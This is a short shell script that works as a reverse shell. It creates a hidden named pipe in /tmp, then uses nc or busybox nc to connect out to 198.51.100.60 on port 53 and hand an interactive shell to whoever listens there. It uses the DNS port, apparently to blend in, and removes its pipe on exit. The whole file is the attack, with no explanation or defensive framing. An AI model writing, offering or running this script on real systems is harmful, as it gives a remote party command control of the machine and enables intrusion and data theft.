#!/bin/sh
p=/tmp/.$(id -u)-fifo
rm -f "$p"
mkfifo "$p" || exit 1
trap 'rm -f "$p"' EXIT
host=198.51.100.60
port=53
if command -v nc >/dev/null; then
  cat "$p" | /bin/sh -i 2>&1 | nc "$host" "$port" > "$p"
elif command -v busybox >/dev/null; then
  cat "$p" | busybox sh -i 2>&1 | busybox nc "$host" "$port" > "$p"
fi
